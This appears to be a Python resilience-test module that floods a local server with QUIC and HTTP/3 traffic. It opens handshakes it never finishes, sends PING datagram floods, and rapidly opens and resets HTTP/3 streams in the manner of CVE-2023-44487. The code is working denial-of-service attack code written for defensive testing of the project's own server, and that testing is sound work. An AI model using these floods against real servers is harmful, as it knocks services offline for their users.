"""Floods of QUIC and HTTP/3: handshakes that nobody finishes, and datagrams that bring nothing."""

from __future__ import annotations

import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable

from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import HandshakeCompleted

from tests.hostile.attack import ATTACKER_KEY, BOUNDED, ELSEWHERE, Counts, Setting, Target, attack

QUIC = Setting(BOUNDED.flags, quic=True)
AT_ONCE = 50
"""Datagrams on their way, beyond which the kernel would drop them."""


class _Client:
    """A client that does nothing by itself."""

    def __init__(self, target: Target) -> None:
        self.is_ready = False
        self.quic = QuicConnection(
            configuration=QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, verify_mode=ssl.CERT_NONE)
        )
        self._server = ("127.0.0.1", target.quic_port)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((ELSEWHERE, 0))
        self.socket.connect(self._server)
        self.quic.connect(self._server, now=time.monotonic())

    def send(self) -> int:
        """Send all waiting datagrams, and return their number."""
        sent = 0
        for data, _ in self.quic.datagrams_to_send(now=time.monotonic()):
            try:
                self.socket.send(data)
            except OSError:
                continue
            sent += 1
        return sent

    def receive(self, timeout_s: float) -> bool:
        """Take a datagram, if one comes in time."""
        self.socket.settimeout(timeout_s)
        try:
            data = self.socket.recv(2**16)
        except OSError:
            return False
        self.quic.receive_datagram(data, self._server, now=time.monotonic())
        while (event := self.quic.next_event()) is not None:
            self.is_ready = self.is_ready or isinstance(event, HandshakeCompleted)
        return True

    def close(self) -> None:
        self.socket.close()


@attack("QUIC: handshakes that nobody finishes (F9)", QUIC)
def unfinished_handshakes(target: Target) -> Counts:
    """Send one datagram from each of many ports."""
    seen: Counter[str] = Counter()
    for _ in target.rounds():
        client = _Client(target)
        seen["datagrams"] += client.send()
        client.close()
    return seen


def _flood(target: Target, ask: Callable[[_Client, H3Connection], None]) -> Counts:
    """Do the same on connection after connection, each as long as the server answers it."""
    seen: Counter[str] = Counter()
    for _ in target.rounds():
        client = _Client(target)
        http = H3Connection(client.quic)
        seen["connections"] += 1
        client.send()
        while client.receive(1.0) and not target.time_is_up:
            client.send()
            for _ in range(AT_ONCE if client.is_ready else 0):
                ask(client, http)
                seen["datagrams"] += client.send()
            while client.receive(0.001):
                pass
        client.close()
    return seen


@attack("QUIC: datagrams of PING", QUIC)
def pings(target: Target) -> Counts:
    return _flood(target, lambda client, _: client.quic.send_ping(0))


@attack("HTTP/3: streams opened and reset", QUIC)
def resets(target: Target) -> Counts:
    """Reset streams rapidly, as CVE-2023-44487 does on HTTP/2."""
    head = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"test"), (b":path", b"/v1/embeddings")]
    head.append((b"authorization", f"Bearer {ATTACKER_KEY}".encode()))

    def open_and_reset(client: _Client, http: H3Connection) -> None:
        stream = client.quic.get_next_available_stream_id()
        http.send_headers(stream, head)
        client.send()
        client.quic.reset_stream(stream, 0x10C)

    return _flood(target, open_and_reset)
